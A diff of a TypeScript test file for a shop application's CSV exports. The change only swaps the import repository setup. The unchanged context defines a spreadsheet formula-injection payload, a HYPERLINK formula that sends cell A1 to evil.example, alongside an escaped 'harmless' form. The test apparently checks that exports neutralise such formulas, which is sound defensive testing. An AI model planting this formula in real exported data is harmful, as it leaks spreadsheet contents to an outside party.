@@ -1,6 +1,7 @@
 import { type Person, sampleOrder, sampleProduct, signUpAdmin, storeProducts } from '../../test/samples';
 import { startTestApp, type TestApp } from '../../test/test-app';
-import { ProductImportRepository } from '../product/product-import.repository';
+import { Transactions } from '../database/transactions';
+import { ProductImport } from '../product/product-import';
 
 const FORMULA = '=HYPERLINK("https://evil.example?"&A1,"Click")';
 const HARMLESS = '"\'=HYPERLINK(""https://evil.example?""&A1,""Click"")"';
@@ -59,7 +60,7 @@ describe('exports', () => {
 
   it('contain every row of the filter once', async () => {
     const many = Array.from({ length: 1_500 }, (_, index) => sampleProduct({ title: `Row ${index}`, category: 'bot' }));
-    await new ProductImportRepository(test.dataSource).insert(many);
+    await new ProductImport(new Transactions(test.dataSource)).insert(many);
     const bots = (await get('products/csv?category=bot&q=Row')).text.trim().split('\r\n').slice(1);
     const titles = bots.map((line) => line.split(',')[1]);
     expect(titles.sort()).toEqual(many.map((product) => product.title).sort());
